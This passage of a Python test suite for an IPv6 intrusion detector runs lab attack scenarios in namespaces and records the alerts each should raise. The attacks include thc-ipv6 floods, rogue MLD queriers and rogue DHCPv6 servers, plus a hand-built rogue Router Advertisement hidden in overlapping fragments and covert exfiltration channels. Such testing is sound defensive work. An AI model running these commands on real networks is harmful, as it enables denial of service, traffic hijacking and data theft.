    to 0-5; h2's ::53 answers).
    """
    start_routed(lab)
    remote_scan([*SCAN6, "--tgt-port", *SCAN6_RATE], 5, lab)


@lan_scan(["atk6-alive6"], probed=150, solicited=100)
def alive6_range(lab: Lab) -> None:
    """thc-ipv6's alive6 over an address range: 2001:db8:1::0 to ::3ff.

    ``atk6-alive6 -n 1 -W 1 eth0 2001:db8:1::0-3ff`` (8 s, ~190 targets). alive6
    sends an echo request and an echo request with an unknown destination option to
    each, and resolves r1 with an NS before every target, hence ~24 targets/s.
    """
    start_routed(lab)
    remote_scan([*ALIVE6, "eth0", "2001:db8:1::0-3ff"], 8, lab)


@lan_scan(
    ["atk6-alive6"],
    probed=150,
    solicited=100,
    sid=1000402,
    outside_evidence=[
        Evidence(
            "distinct sources of the probes",
            frames(A2.mac, src_net=REMOTE_NET, dst_net=LAN_PREFIX),
            50,
            distinct=source,
        )
    ],
)
def alive6_random_source(lab: Lab) -> None:
    """alive6 with a new random source address of 2001:db8:fe::/64 for every probe.

    ``atk6-alive6 -n 1 -W 1 -I 2001:db8:fe::/64 eth0 2001:db8:1::0-3ff`` (8 s). r1
    routes 2001:db8:fe::/64 to a2, so its answers and errors go back there.
    """
    start_routed(lab)
    remote_scan([*ALIVE6, "-I", REMOTE_NET, "eth0", "2001:db8:1::0-3ff"], 8, lab)


@lan_scan(["nmap"], probed=200, solicited=150)
def nmap_range(lab: Lab) -> None:
    """nmap's host discovery of a /120 of the LAN: 2001:db8:1::0 to ::ff.

    ``nmap -6 -n -sn --max-retries 0 --min-rate 50 --max-rate 50 -PE -PS80
    2001:db8:1::/120`` (256 targets, done in ~6 s, under ``timeout`` 12 s): an ICMPv6
    echo to each and a TCP SYN to port 80 of some.
    """
    start_routed(lab)
    remote_scan([*NMAP, *NMAP_RATE, "-PE", "-PS80", "2001:db8:1::/120"], 12, lab)


@lan_scan(["masscan"], probed=150, solicited=100)
def masscan_random(lab: Lab) -> None:
    """masscan's TCP SYNs to port 80 of random addresses of 2001:db8:1::/66.

    ``masscan --adapter eth0 --adapter-ip 2001:db8:ff::a --router-mac 02:00:00:00:ff:01
    --range 2001:db8:1::/66 --exclude 192.0.2.255 -p 80 --rate 50 --wait 0`` (5 s,
    ~250 probes). masscan refuses ranges over 63 bits (a /64 on one port is 64), and
    wants an ``--exclude`` as confirmation for big ranges; the router MAC spares it
    resolving r1 itself.
    """
    start_routed(lab)
    argv = ["masscan", "--adapter", "eth0", "--adapter-ip", A2.addresses[0]]
    argv += ["--router-mac", R1_WAN.mac, "--range", "2001:db8:1::/66"]
    argv += ["--exclude", "192.0.2.255", "-p", "80", "--rate", "50", "--wait", "0"]
    remote_scan(argv, 5, lab)


@scenario(
    expect=(),
    evidence=[],
    tools=["nmap"],
    outside=expected(
        ["ipv6.sweep", "ipv6.dark_prefix"],
        [
            Evidence(
                "distinct /64s of the dark /48 probed from a2",
                frames(A2.mac, dst_net=DARK_NET),
                150,
                distinct=destination_64,
            )
        ],
        [1000403, 1000411],
    ),
)
def nmap_dark_wide(lab: Lab) -> None:
    """nmap pings ::1 of 192 /64s of the dark 2001:db8:dead::/48, listed in a file.

    ``nmap -6 -n -sn --max-retries 0 --min-rate 50 --max-rate 50 -PE -iL targets.txt``
    (~5 s, under ``timeout`` 10 s), targets.txt listing 2001:db8:dead:0::1 to
    2001:db8:dead:bf::1: a wide scan, one address in each of many /64s, into a prefix
    the policy lists as dark. r1 has no route there and answers with rate-limited
    ICMPv6 no-route errors; nothing reaches the LAN, whose capture stays silent.
    """
    start_routed(lab)
    dark = ipaddress.IPv6Network(DARK_NET)
    targets = lab.workdir / "targets.txt"
    targets.write_text("".join(f"{dark[(n << 64) + 1]}\n" for n in range(192)), encoding="ascii")
    remote_scan([*NMAP, *NMAP_RATE, "-PE", "-iL", str(targets)], 10, lab)


# MLD (issue 14): rogue queriers, the querier election, MRD, report and Done floods,
# abnormal MLDv2 record counts; and hosts joining and leaving groups under a real querier.

# A Linux bridge acting as the link's MLD querier (RFC 3810), in its own namespace q1: its
# address is higher than every other lab node's link-local, so any of them that queries
# wins the election (7.6.2). It is in the lab policy as a router.
Q1: Final = NodeSpec("q1", "02:00:00:00:01:03", "fe80::ff:3", "router")
ICMP_MLD_QUERY, ICMP_MLD_DONE, ICMP_MLD2_REPORT, ICMP_MRD_ADV = 130, 132, 143, 151
# Joins `group` on eth0 for `seconds` (the kernel reports it, and answers queries), then
# leaves it (the kernel sends the MLDv2 leave, Robustness Variable times).
_JOIN_LEAVE: Final = """
import socket, struct, sys, time
group, seconds = sys.argv[1], float(sys.argv[2])
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
mreq = socket.inet_pton(socket.AF_INET6, group) + struct.pack("@I", socket.if_nametoindex("eth0"))
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP, mreq)
time.sleep(seconds)
s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_LEAVE_GROUP, mreq)
time.sleep(1.0)
"""
MLD_TBF: Final = "tbf rate 1mbit burst 3000 limit 6000"  # bounds the report floods


def start_querier(lab: Lab) -> None:
    """Turn q1 (added before ``start_lan``) into a querying bridge: its address moves from
    eth0 to bridge ``brq`` (snooping and querier on, a query every second, startup
    queries every second), with eth0 as its only port."""
    ns = lab.nodes["q1"]
    _ip("-n", ns, "addr", "del", f"{Q1.link_local}/64", "dev", "eth0")
    opts = "mcast_snooping 1 mcast_querier 1 mcast_query_interval 100"
    opts += " mcast_startup_query_interval 100 mcast_query_response_interval 50"
    _ip("-n", ns, "link", "add", "brq", "type", "bridge", *opts.split())
    lab.sysctl("q1", {"net.ipv6.conf.brq.addr_gen_mode": 1, "net.ipv6.conf.brq.accept_ra": 0})
    _ip("-n", ns, "link", "set", "dev", "brq", "address", Q1.mac)
    _ip("-n", ns, "link", "set", "dev", "eth0", "master", "brq")
    _ip("-n", ns, "addr", "add", f"{Q1.link_local}/64", "dev", "brq", "nodad")
    _ip("-n", ns, "link", "set", "dev", "brq", "up")
    time.sleep(2.5)  # two queries, and the hosts' answers


def join_leave(lab: Lab, node: str, group: str, seconds: float) -> subprocess.Popen[bytes]:
    """A process in ``node`` that joins ``group``, stays ``seconds``, then leaves it."""
    return lab.spawn(
        node, [sys.executable, "-c", _JOIN_LEAVE, group, str(seconds)], f"join-{node}.log"
    )


# DHCPv6 (issue 14): a real DHCPv6 server (dnsmasq in r1) and real clients (ISC dhclient
# -6 in the hosts); atk6-fake_dhcps6 answers a real client as a rogue server,
# atk6-flood_dhcpc6 starves the real server. tests/netlab_policy.yaml lists dnsmasq
# (r1's link-local, MAC and the DUID fixed by --dhcp-duid) under dhcpv6_servers.

ALL_DHCP_SERVERS: Final = "ff02::1:2"  # All_DHCP_Relay_Agents_and_Servers (RFC 8415 7.1)
DHCPV6_POOL: Final = ("2001:db8:1::1000", "2001:db8:1::10ff")
DHCPV6_DOMAIN: Final = "lab.example"
# DUID-EN (type 2) of enterprise 43794 (0xab12), identifier 01:02:03:04:05; the policy's.
DNSMASQ_DUID: Final = ("43794", "0102030405")
EVIL_DNS: Final = "2001:db8:bad::53"


def start_dnsmasq(lab: Lab, dns: str = RDNSS) -> None:
    """dnsmasq as r1's DHCPv6 server only (no DNS, no RAs), in the foreground, logging
    to the work dir; stateful addresses from the pool, DNS server ``dns`` and the
    search domain."""
    leases = lab.workdir / "dnsmasq.leases"
    argv = [
        "dnsmasq", "--keep-in-foreground", "--log-facility=-", "--log-dhcp",
        "--conf-file=/dev/null", "--port=0", "--interface=eth0", "--bind-interfaces",
        f"--dhcp-leasefile={leases}", f"--pid-file={lab.workdir / 'dnsmasq.pid'}",
        f"--dhcp-range={DHCPV6_POOL[0]},{DHCPV6_POOL[1]},64,1h",
        f"--dhcp-option=option6:dns-server,[{dns}]",
        f"--dhcp-option=option6:domain-search,{DHCPV6_DOMAIN}",
        f"--dhcp-duid={DNSMASQ_DUID[0]},{DNSMASQ_DUID[1]}",
        "--user=root", "--group=root",
    ]  # fmt: skip
    lab.spawn("r1", argv, "dnsmasq-r1.log")
    time.sleep(0.5)  # bound to eth0 before the first Solicit


def dhclient6(lab: Lab, host: str, seconds: float) -> ToolRun:
    """ISC dhclient -6 in ``host``: one stateful exchange (Solicit, Advertise, Request,
    Reply), its own lease file, and /bin/true as the script so nothing is configured."""
    argv = [
        "dhclient", "-6", "-d", "-v", "-1",
        "-lf", str(lab.workdir / f"dhclient6-{host}.leases"),
        "-pf", str(lab.workdir / f"dhclient6-{host}.pid"),
        "-sf", "/bin/true", "eth0",
    ]  # fmt: skip
    return lab.start_tool(host, argv, seconds)


def udp_from(mac: str, *, dst: str | None = None) -> Callable[[Frame], bool]:
    """UDP frames (DHCPv6 here) sent from ``mac``, to ``dst`` when given."""

    def match(f: Frame) -> bool:
        return f.src_mac == mac and f.upper == NH_UDP and (dst is None or f.dst_ip == dst)

    return match


@scenario(
    expect=(),
    evidence=[
        Evidence("MLD query from the querier q1", frames(Q1.mac, ICMP_MLD_QUERY), 3),
        Evidence("MLDv2 report from h1", frames(H1.mac, ICMP_MLD2_REPORT), 3),
        Evidence("MLDv2 report from h2", frames(H2.mac, ICMP_MLD2_REPORT), 3),
    ],
)
def mld_benign_querier(lab: Lab) -> None:
    """q1, a Linux bridge with ``mcast_querier 1``, queries every second; h1 and h2 join
    groups, answer the queries and leave.

    In h1 and h2: a Python socket joins ff05::db8:1 (h1) and ff05::db8:2 then ff15::db8:3
    (h2) with IPV6_JOIN_GROUP, stays 3 s and leaves with IPV6_LEAVE_GROUP; meanwhile the
    hosts ping each other.
    """
    lab.add_node(Q1)
    start_lan(lab)
    start_querier(lab)
    procs = [
        join_leave(lab, "h1", "ff05::db8:1", 3),
        join_leave(lab, "h2", "ff05::db8:2", 3),
    ]
    _must_ping(lab, HOST_PINGS)
    for proc in procs:
        proc.wait(15)
    join_leave(lab, "h2", "ff15::db8:3", 2).wait(15)
    time.sleep(1.0)


@scenario(
    expect=["ipv6.mld_abuse"],
    sids=[1001201, 1001204],
    evidence=[
        Evidence(
            "MLD queries from a1's MAC and 12 sources",
            frames(A1.mac, ICMP_MLD_QUERY),
            12,
            distinct=source,
        )
    ],
    tools=["atk6-fake_mld26"],
)
def fake_mld26_query(lab: Lab) -> None:
    """a1 queries the link from 12 link-local addresses (no querier runs).

    In a1: ``timeout 1 atk6-fake_mld26 eth0 query :: :: 1 fe80::a:1:N`` for N = 1..12
    (under ``timeout`` 20 s in all): one MLDv2 general query each, hop limit 1. 10
    individual alerts (the per-link cap), then one burst when the window closes.
    """
    start_lan(lab)
    # The tool sends its query at once, then listens for reports: 1 s each is enough.
    loop = (
        "for i in $(seq 1 12); do timeout 1 atk6-fake_mld26 eth0 query :: :: 1 fe80::a:1:$i; done"
    )
    lab.run_tool("a1", ["sh", "-c", loop], 20)


@scenario(
    expect=["ipv6.mld_abuse"],
    sids=[1001202],
    evidence=[
        Evidence("MLD query from q1", frames(Q1.mac, ICMP_MLD_QUERY), 2),
        Evidence("MLD query from a1", frames(A1.mac, ICMP_MLD_QUERY)),
    ],
    tools=["atk6-fake_mld26"],
)
def fake_mld26_takeover(lab: Lab) -> None:
    """q1 is the querier (fe80::ff:3); a1 queries from its lower fe80::a:1 and wins the
    election (RFC 3810 7.6.2).

    In a1: ``atk6-fake_mld26 eth0 query`` (3 s).
    """
    lab.add_node(Q1)
    start_lan(lab)
    start_querier(lab)
    lab.run_tool("a1", ["atk6-fake_mld26", "eth0", "query"], 3)


@scenario(
    expect=["ipv6.mld_abuse"],
    sids=[1001206],
    evidence=[Evidence("MLDv2 report from a foreign MAC", frames(FOREIGN, ICMP_MLD2_REPORT), 100)],
    tools=["atk6-flood_mld26"],
)
def flood_mld26(lab: Lab) -> None:
    """MLDv2 reports for random groups from random sources and MACs.

    In a1: ``tc qdisc add dev eth0 root tbf rate 1mbit burst 3000 limit 6000``, then
    ``atk6-flood_mld26 eth0`` (2 s): each report carries dozens of group records and
    fills a frame, so the link passes about 85 reports (thousands of groups) a second.
    """
    start_lan(lab)
    lab.limit_egress("a1", MLD_TBF)
    lab.run_tool("a1", ["atk6-flood_mld26", "eth0"], FLOOD)


@scenario(
    expect=["ipv6.mld_abuse"],
    sids=[1001207],
    evidence=[Evidence("MLD Done from a1", frames(A1.mac, ICMP_MLD_DONE), 60)],
    tools=["atk6-fake_mld6"],
)
def fake_mld6_done(lab: Lab) -> None:
    """h1 listens to ff05::db8:1; a1 sends Dones for it and 59 other groups.

    In h1: a socket joins ff05::db8:1. In a1: ``atk6-fake_mld6 eth0 delete ff05::db8:N``
    for N = 1..60 (under ``timeout`` 20 s in all): one MLDv1 Done each.
    """
    start_lan(lab)
    listener = join_leave(lab, "h1", "ff05::db8:1", 8)
    time.sleep(0.5)
    loop = "for i in $(seq 1 60); do atk6-fake_mld6 eth0 delete ff05::db8:$i; done"
    lab.run_tool("a1", ["sh", "-c", loop], 20)
    listener.wait(15)


@scenario(
    expect=["ipv6.mld_abuse"],
    sids=[1001203],
    evidence=[Evidence("MRD advertisement from a1", frames(A1.mac, ICMP_MRD_ADV))],
    tools=["atk6-fake_mldrouter6"],
)
def fake_mldrouter6(lab: Lab) -> None:
    """a1 announces itself as a multicast router (Multicast Router Discovery, RFC 4286).

    ``atk6-fake_mldrouter6 eth0 advertise`` (2 s).
    """
    start_lan(lab)
    lab.run_tool("a1", ["atk6-fake_mldrouter6", "eth0", "advertise"], 2)


@scenario(
    expect=["ipv6.mld_abuse"],
    sids=[1001205],
    evidence=[Evidence("MLDv2 report from a foreign MAC", frames(FOREIGN, ICMP_MLD2_REPORT), 20)],
    tools=["atk6-fuzz_ip6"],
)
def fuzz_mld2_report(lab: Lab) -> None:
    """a1 fuzzes MLDv2 reports field by field, the record count among them.

    In a1: ``tc qdisc add dev eth0 root tbf rate 1mbit burst 3000 limit 6000``, then
    ``atk6-fuzz_ip6 -a -8 eth0 ff02::16`` (4 s).
    """
    start_lan(lab)
    lab.limit_egress("a1", MLD_TBF)
    lab.run_tool("a1", ["atk6-fuzz_ip6", "-a", "-8", "eth0", "ff02::16"], 4)


# -- malformed (issue 14) -----------------------------------------------------------------

# a1's egress for the fragment flood: ~4000 first fragments/s of 470 bytes, so the 2 s
# run sends ~8000, past the reassembly table's 4096 datagrams (evictions) but bounded.
FRAG_FLOOD_TBF: Final = "tbf rate 16mbit burst 10000 limit 20000"
# a1's egress for denial6's chain flood: ~60 packets/s of ~1500 bytes.
CHAIN_FLOOD_TBF: Final = "tbf rate 800kbit burst 3000 limit 6000"
_IMPL6: Final = ("atk6-implementation6", "-p")


@scenario(
    expect=["ipv6.malformed"],
    sids=[1000902, 1000903, 1000906, 1000907, 1000909],
    evidence=[
        Evidence("Routing header from a1", frames(A1.mac, ext_header=43), 1),
        Evidence("ping from :: sent by a1", frames(A1.mac, src_ips=["::"]), 1),
        Evidence("fragments from a1", frames(A1.mac, fragment=True), 4),
        Evidence("Destination Options from a1", frames(A1.mac, ext_header=60), 1),
    ],
    tools=["atk6-implementation6"],
)
def implementation6_malformed(lab: Lab) -> None:
    """thc-ipv6's implementation checks against h1's link-local address, one test each.

    ``atk6-implementation6 -p eth0 fe80::2:1 N`` (4 s each) for test 18 (source routing:
    a Routing Header type 0, RFC 5095), 8 (128 Destination Options headers: a chain past
    max_ext_headers), 2 (a 2 kB Hop-by-Hop header, fragmented so the ICMPv6 header is not
    in the first fragment, RFC 7112) and 16 (overlapping fragments, RFC 5722); then
    ``atk6-implementation6 -s :: -p eth0 fe80::2:1 1`` (a ping from the unspecified
    address).
    """
    start_lan(lab)
    for test in ("18", "8", "2", "16"):
        lab.run_tool("a1", [*_IMPL6, "eth0", H1.link_local, test], 4)
    lab.run_tool("a1", ["atk6-implementation6", "-s", "::", "-p", "eth0", H1.link_local, "1"], 4)


@scenario(
    expect=["ipv6.malformed"],
    sids=[1000902, 1000908],
    evidence=[Evidence("first fragments from a1", frames(A1.mac, fragment=True), 4500)],
    tools=["atk6-fragmentation6"],
)
def fragmentation6_flood(lab: Lab) -> None:
    """thc-ipv6's fragment tests against h1: two Fragment headers, then a flood of first
    fragments that never complete.

    ``atk6-fragmentation6 -p eth0 fe80::2:1 10`` (double one-shot fragments: a repeated
    Fragment header, 2 s), then in a1 ``tc qdisc add dev eth0 root tbf rate 16mbit burst
    10000 limit 20000`` and ``atk6-fragmentation6 -f -p eth0 fe80::2:1 19`` (only first
    fragments, each with a new id, flooding; 2 s, ~8000 fragments): the reassembly table
    evicts thousands of datagrams that never complete.
    """
    start_lan(lab)
    lab.run_tool("a1", ["atk6-fragmentation6", "-p", "eth0", H1.link_local, "10"], 2)
    lab.limit_egress("a1", FRAG_FLOOD_TBF)
    lab.run_tool("a1", ["atk6-fragmentation6", "-f", "-p", "eth0", H1.link_local, "19"], 2)


@scenario(
    expect=["ipv6.malformed"],
    sids=[1000902],
    evidence=[Evidence("Hop-by-Hop chains from a1", frames(A1.mac, ext_header=0), 20)],
    tools=["atk6-denial6"],
)
def denial6_header_chain(lab: Lab) -> None:
    """thc-ipv6's denial6 test 4: a Hop-by-Hop header with router alert, 179 headers, a ping.

    In a1 ``tc qdisc add dev eth0 root tbf rate 800kbit burst 3000 limit 6000``, then
    ``atk6-denial6 eth0 fe80::2:1 4`` (5 s: ~3 s resolving h1, then it floods until
    stopped; ~130 packets pass the shaper).
    """
    start_lan(lab)
    lab.limit_egress("a1", CHAIN_FLOOD_TBF)
    lab.run_tool("a1", ["atk6-denial6", "eth0", H1.link_local, "4"], 5)


# Sends the Ethernet frames listed (hex, one per line) in argv[1] from eth0, 10 ms apart:
# for packets no tool crafts. Raw sockets need no library.
_SEND_FRAMES: Final = """
import socket, sys, time
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
for line in open(sys.argv[1]):
    s.send(bytes.fromhex(line.strip()))
    time.sleep(0.01)
print("sent", flush=True)
"""


@scenario(
    expect=["ipv6.rogue_ra", "ipv6.ra_guard_evasion", "ipv6.malformed"],
    sids=[1000101, 1000121, 1000903],
    evidence=[Evidence("fragments from a1", frames(A1.mac, fragment=True), 3)],
)
def overlap_rogue_ra(lab: Lab) -> None:
    """A rogue RA hidden in overlapping fragments (RFC 5722), sent from a1 three times.

    No tool crafts it, so a1 sends the frames itself (``_SEND_FRAMES``, a raw socket):
    fragment 0 of an echo request from fe80::a:1 to ff02::1, then an RA from fe80::a:1
    (prefix 2001:db8:bad::/64, RDNSS 2001:db8:bad::53) in two 48-byte fragments with the
    same id, whose fragment 0 overlaps the echo's. Hosts keeping the last copy read the RA;
    v6sentry judges that reading as an RA.
    """
    from pcaps.generate import (  # the captures' packet builders; imported when used
        ALL_NODES,
        a6,
        fragment_packets,
        icmp6,
        lan,
        mac,
        pio,
        rdnss,
        slla,
    )

    start_lan(lab)
    src, m = a6(A1.link_local), mac(A1.mac)
    body = struct.pack("!BBHII", 64, 0x08, 1800, 0, 0)
    body += slla(m) + pio(a6("2001:db8:bad::")) + rdnss(a6("2001:db8:bad::53"))
    rogue = icmp6(src, ALL_NODES, 134, body)
    decoy = icmp6(src, ALL_NODES, 128, struct.pack("!HH", 7, 1) + bytes(len(rogue) - 8))
    sent = []
    for ident in (0x5722, 0x5723, 0x5724):
        real = fragment_packets(src, ALL_NODES, 58, rogue, 48, ident)
        fake = fragment_packets(src, ALL_NODES, 58, decoy, 48, ident)
        sent += [lan(fake[0], m), *(lan(f, m) for f in real)]
    listing = lab.workdir / "overlap_frames.hex"
    listing.write_text("".join(f.hex() + "\n" for f in sent), encoding="ascii")
    lab.sh("a1", sys.executable, "-c", _SEND_FRAMES, str(listing))


@scenario(
    expect=(),
    evidence=[
        Evidence("DHCPv6 client message from h1", udp_from(H1.mac, dst=ALL_DHCP_SERVERS), 2),
        Evidence("DHCPv6 client message from h2", udp_from(H2.mac, dst=ALL_DHCP_SERVERS), 2),
        Evidence("DHCPv6 client message from v1", udp_from(V1.mac, dst=ALL_DHCP_SERVERS), 2),
        Evidence("DHCPv6 server answer from r1", udp_from(R1.mac, dst=None), 6),
    ],
    tools=["dnsmasq", "dhclient"],
)
def benign_dhcpv6_server(lab: Lab) -> None:
    """dnsmasq in r1 serves three real DHCPv6 clients (h1, h2, v1).

    In r1: ``dnsmasq --keep-in-foreground --port=0 --interface=eth0 --bind-interfaces
    --dhcp-range=2001:db8:1::1000,2001:db8:1::10ff,64,1h
    --dhcp-option=option6:dns-server,[2001:db8:1::53]
    --dhcp-option=option6:domain-search,lab.example --dhcp-duid=43794,0102030405``;
    in h1, h2 and v1: ``dhclient -6 -d -v -1 -sf /bin/true eth0`` (4 s each, one
    after another, so the exchanges do not overlap).
    """
    start_lan(lab, hosts=(V1,))
    start_dnsmasq(lab)
    for host in ("h1", "h2", "v1"):
        lab.finish(dhclient6(lab, host, 4))
    time.sleep(0.5)


@scenario(
    expect=["ipv6.rogue_dhcpv6"],
    sids=[1001101],
    evidence=[
        Evidence("DHCPv6 Solicit from h1", udp_from(H1.mac, dst=ALL_DHCP_SERVERS)),
        Evidence("DHCPv6 answer from a1 to h1", udp_from(A1.mac, dst=H1.link_local)),
    ],
    tools=["atk6-fake_dhcps6", "dhclient"],
)
def fake_dhcps6(lab: Lab) -> None:
    """a1 answers h1's real DHCPv6 client as a rogue server (address and DNS server).

    In a1: ``atk6-fake_dhcps6 eth0 2001:db8:bad::/64 2001:db8:bad::53`` (8 s); 1 s
    later in h1: ``dhclient -6 -d -v -1 -sf /bin/true eth0`` (5 s).
    """
    start_lan(lab)
    rogue = lab.start_tool("a1", ["atk6-fake_dhcps6", "eth0", "2001:db8:bad::/64", EVIL_DNS], 8)
    time.sleep(1.0)  # listening before the Solicit
    lab.finish(dhclient6(lab, "h1", 5))
    lab.finish(rogue)


@scenario(
    expect=["ipv6.dhcpv6_starvation"],
    sids=[1001111, 1001112],
    evidence=[
        Evidence("DHCPv6 Solicits from a1", udp_from(A1.mac, dst=ALL_DHCP_SERVERS), 100),
        Evidence("DHCPv6 Advertises from r1 to a1", udp_from(R1.mac, dst=A1.link_local), 50),
    ],
    tools=["atk6-flood_dhcpc6", "dnsmasq"],
)
def flood_dhcpc6(lab: Lab) -> None:
    """a1 floods r1's real DHCPv6 server (dnsmasq) with Solicits, each from a new DUID.

    In r1: dnsmasq as in ``benign_dhcpv6_server``; in a1, egress limited to ~55 packets/s
    (``tc qdisc add dev eth0 root tbf rate 100kbit burst 2000 limit 4000``):
    ``atk6-flood_dhcpc6 -N eth0`` (FLOOD x 3 s). ``-N`` sends from a1's own MAC and
    link-local address, so dnsmasq's Advertises reach the wire (to forged link-local
    sources r1 would only send Neighbor Solicitations nobody answers); the DUIDs stay
    random, and no Request follows any Advertise (the churn).
    """
    start_lan(lab)
    start_dnsmasq(lab)
    lab.limit_egress("a1", EXHAUST_TBF)
    lab.run_tool("a1", ["atk6-flood_dhcpc6", "-N", "eth0"], FLOOD * 3, neighbour_budget=400)
    time.sleep(0.5)


@scenario(
    expect=["ipv6.rogue_dhcpv6"],
    sids=[1001102],
    evidence=[
        Evidence("DHCPv6 Solicit from h1", udp_from(H1.mac, dst=ALL_DHCP_SERVERS)),
        Evidence("DHCPv6 answer from r1 to h1", udp_from(R1.mac, dst=H1.link_local), 2),
    ],
    tools=["dnsmasq", "dhclient"],
)
def dnsmasq_unlisted_dns(lab: Lab) -> None:
    """The policy's own DHCPv6 server (dnsmasq in r1) hands out a DNS server its
    dhcpv6_servers entry does not list (a tampered configuration).

    In r1: dnsmasq as in ``benign_dhcpv6_server`` but with
    ``--dhcp-option=option6:dns-server,[2001:db8:bad::53]``; in h1: ``dhclient -6 -d -v
    -1 -sf /bin/true eth0`` (4 s).
    """
    start_lan(lab)
    start_dnsmasq(lab, dns=EVIL_DNS)
    lab.finish(dhclient6(lab, "h1", 4))
    time.sleep(0.5)


# Forged servers for the burst: more than ipv6.rogue_dhcpv6's max_alerts_per_window (10).
FAKE_SERVERS: Final = 12


@scenario(
    expect=["ipv6.rogue_dhcpv6"],
    sids=[1001101, 1001103],
    evidence=[
        Evidence("DHCPv6 Solicit from h1", udp_from(H1.mac, dst=ALL_DHCP_SERVERS)),
        Evidence(
            "DHCPv6 answers to h1 from forged servers",
            lambda f: (
                f.src_mac.startswith("02:00:00:00:0d:")
                and f.upper == NH_UDP
                and f.dst_ip == H1.link_local
            ),
            FAKE_SERVERS - 1,
            distinct=lambda f: f.src_mac,
        ),
    ],
    tools=["atk6-fake_dhcps6", "dhclient"],
)
def fake_dhcps6_many(lab: Lab) -> None:
    """Twelve rogue DHCPv6 servers (each its own MAC and link-local address) answer h1.

    In a1, twelve macvlan interfaces ``d1``..``d12`` on eth0 (MAC 02:00:00:00:0d:NN,
    ``fe80::d:N``, no DAD), on each ``atk6-fake_dhcps6 dN 2001:db8:bad::/64
    2001:db8:bad::53`` (8 s); 1 s later in h1: ``dhclient -6 -d -v -1 -sf /bin/true
    eth0`` (5 s). Ten alerts, the rest folded into the link's burst.
    """
    start_lan(lab)
    rogues = []
    for n in range(1, FAKE_SERVERS + 1):
        dev = f"d{n}"
        lab.sh("a1", "ip", "link", "add", dev, "link", "eth0", "type", "macvlan", "mode", "bridge")
        lab.sysctl("a1", {f"net.ipv6.conf.{dev}.addr_gen_mode": 1})
        lab.sh("a1", "ip", "link", "set", dev, "address", f"02:00:00:00:0d:{n:02x}", "up")
        lab.sh("a1", "ip", "addr", "add", f"fe80::d:{n:x}/64", "dev", dev, "nodad")
    for n in range(1, FAKE_SERVERS + 1):
        argv = ["atk6-fake_dhcps6", f"d{n}", "2001:db8:bad::/64", EVIL_DNS]
        rogues.append(lab.start_tool("a1", argv, 8))
    time.sleep(1.0)  # all listening before the Solicit
    lab.finish(dhclient6(lab, "h1", 5))
    for rogue in rogues:
        lab.finish(rogue)


# -- covert channels (issue 14) -----------------------------------------------------

# a1's global address for the covert transfer (attackers take no SLAAC address).
A1_COVERT: Final = "2001:db8:1::bad:1"
# The file atk6-covert_send6 hides: 600 bytes of text, one packet of Destination Options.
COVERT_FILE: Final = b"".join(
    b"line %03d: exfiltrated through IPv6 DstOpts\n" % i for i in range(14)
)[:600]


@scenario(
    expect=["ipv6.covert_channel"],
    sids=[1001301],
    evidence=[
        Evidence(
            "echo requests behind Destination Options from a1",
            frames(A1.mac, ICMP_ECHO, ext_header=60),
            1,
        )
    ],
    tools=["atk6-covert_send6"],
)
def covert_send6(lab: Lab) -> None:
    """a1 sends h1 a 600-byte file hidden in Destination Options.

    ``atk6-covert_send6 eth0 <h1> secret.txt`` (under ``timeout`` 10 s), from a1's
    2001:db8:1::bad:1: echo requests whose Destination Options carry an id (option 0x10),
    a sequence number (0x11), the file in options 0x12 and 0x13 (255 bytes each at most)
    and an end marker (0x1f); each packet is sent twice (the tool's default).
    """
    start_lan(lab)
    _ip("-n", lab.nodes["a1"], "addr", "add", f"{A1_COVERT}/64", "dev", "eth0", "nodad")
    lab.wait_address("a1", A1_COVERT)
    secret = lab.workdir / "secret.txt"
    secret.write_bytes(COVERT_FILE)
    lab.run_tool("a1", ["atk6-covert_send6", "eth0", H1_GLOBAL, str(secret)], 10)
    time.sleep(0.5)


# The message nping writes into Flow Labels, 20 bits a packet (20 packets, 50 bytes).
FLOW_LABEL_MESSAGE: Final = b"nping --flow hides 20 bits per packet in one flow!"


def flow_labels(message: bytes) -> list[int]:
    """``message`` cut into 20-bit Flow Labels, most significant first."""
    bits = int.from_bytes(message, "big")
    n = (len(message) * 8 + 19) // 20
    return [(bits >> (20 * (n - 1 - i))) & 0xFFFFF for i in range(n)]


@scenario(
    expect=["ipv6.covert_channel"],
    sids=[1001302],
    evidence=[
        Evidence(
            "UDP packets from a1 with distinct Flow Labels",
            frames(A1.mac, upper=17),
            16,
        )
    ],
    tools=["nping"],
)
def nping_flow_labels(lab: Lab) -> None:
    """a1 writes a message into the Flow Labels of one UDP flow to h1, with nping.

    One ``nping -6 --udp -g 41000 -p 53 --flow LABEL -c 1 --delay 10ms <h1>`` (with a1's
    source address and both MACs, which nping needs to set the label) per 20 bits
    of the 50-byte message (20 runs, one packet each, same addresses and ports), from
    a1's 2001:db8:1::bad:1. No IPv6 tool writes data into Flow Labels by itself (none in
    thc-ipv6, ipv6toolkit's flow6 only samples a target's labels), so nping, whose
    ``--flow`` sets the label of a crafted packet, is driven label by label as a
    covert-channel sender would drive it.
    """
    start_lan(lab)
    _ip("-n", lab.nodes["a1"], "addr", "add", f"{A1_COVERT}/64", "dev", "eth0", "nodad")
    lab.wait_address("a1", A1_COVERT)
    labels = flow_labels(FLOW_LABEL_MESSAGE)
    # Setting the label makes nping build the Ethernet frame itself: it needs both MACs.
    nping = (
        f"nping -6 --udp -g 41000 -p 53 -c 1 --delay 10ms -S {A1_COVERT} -e eth0 -q"
        f" --source-mac {A1.mac} --dest-mac {H1.mac}"
    )
    script = "; ".join(f"{nping} --flow {label} {H1_GLOBAL}" for label in labels)
    lab.run_tool("a1", ["sh", "-c", script], 60)
    time.sleep(0.5)


# -- first hop (issue 14) ------------------------------------------------------------
# Redirects, smurf and Packet Too Big (detectors/detections/first_hop). a1 first takes a
# global address of the LAN and talks from it, so ND binds it to a1's MAC: a1 is then a
# known host of the link, and an off-link source from its MAC is a forged one.

A1_GLOBAL: Final = "2001:db8:1::a1"
REMOTE_A: Final = "2001:db8:ff::a"  # off-link addresses the tools claim to be or quote
ICMP_UNREACH, ICMP_PTB, ICMP_REDIRECT = 1, 2, 137
PTB_FLOOD: Final = 150  # past max_ptb_per_window (100) within flood_window_s (10 s)
_ECHO_BIG: Final = """
import socket, sys, time
s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
